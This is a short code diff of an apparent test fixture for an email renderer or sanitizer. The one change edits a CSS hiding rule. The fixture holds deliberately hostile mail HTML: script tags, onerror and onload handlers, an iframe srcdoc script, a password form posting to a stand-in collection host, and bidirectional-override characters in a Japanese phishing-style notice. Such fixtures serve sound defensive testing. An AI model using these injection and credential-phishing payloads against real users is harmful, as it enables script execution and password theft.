@@ -33,7 +33,7 @@ export const stuffed: StageThread = single({
   ...kohnanMail(),
   subject: `\u202E${KOHNAN_SUBJECT}\u202C\u200B\u2066`,
   html: `<script>document.title = "run by the mail"</script><img src="x" onerror="document.title='run by the mail'">
-<style>[data-mioboe], .a98 { display: none !important }</style><svg onload="document.title='run by the mail'"></svg>
+<style>[data-mioboe] { display: none !important }</style><svg onload="document.title='run by the mail'"></svg>
 <iframe srcdoc="<script>parent.document.title='run by the mail'</script>"></iframe>
 <form action="https://collect.example/"><input name="password" type="password"></form>
 <div>コーナンPay\u200Bサービスアカウントを\u202E発行\u202Cしました。24時間以内に本登録を完了してください。&lt;b&gt;\u0000</div>
